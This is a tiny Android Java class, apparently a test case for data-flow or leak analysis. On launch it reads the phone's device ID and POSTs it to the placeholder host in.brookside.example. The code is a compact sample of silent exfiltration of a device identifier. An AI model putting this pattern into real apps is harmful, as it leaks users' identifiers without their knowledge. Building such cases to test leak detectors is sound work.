package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Through writers into the stream of a connection. */
public class Posted extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try {
            HttpURLConnection c = (HttpURLConnection) new URL("https://in.brookside.example/x").openConnection();
            c.setDoOutput(true);
            Writer w = new BufferedWriter(new OutputStreamWriter(c.getOutputStream()));
            w.write("id=" + ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
            w.close();
        } catch (IOException e) {
            finish();
        }
    }
}
